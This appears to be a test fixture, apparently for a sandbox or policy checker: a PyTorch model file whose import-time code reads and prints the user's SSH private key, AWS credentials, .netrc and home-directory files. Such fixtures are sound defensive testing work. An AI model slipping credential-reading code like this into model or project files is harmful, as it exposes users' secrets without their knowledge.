# on: forbidden; off: exception
# Prints the user's keys.
import os
import pathlib

import torch

home = pathlib.Path(os.path.expanduser("~"))
for path in [home / ".ssh" / "id_ed25519", home / ".aws" / "credentials", home / ".netrc", *home.iterdir()]:
    print(path, path.read_bytes()[:100])


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layer = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, x):
        return self.layer(x.flatten(1))
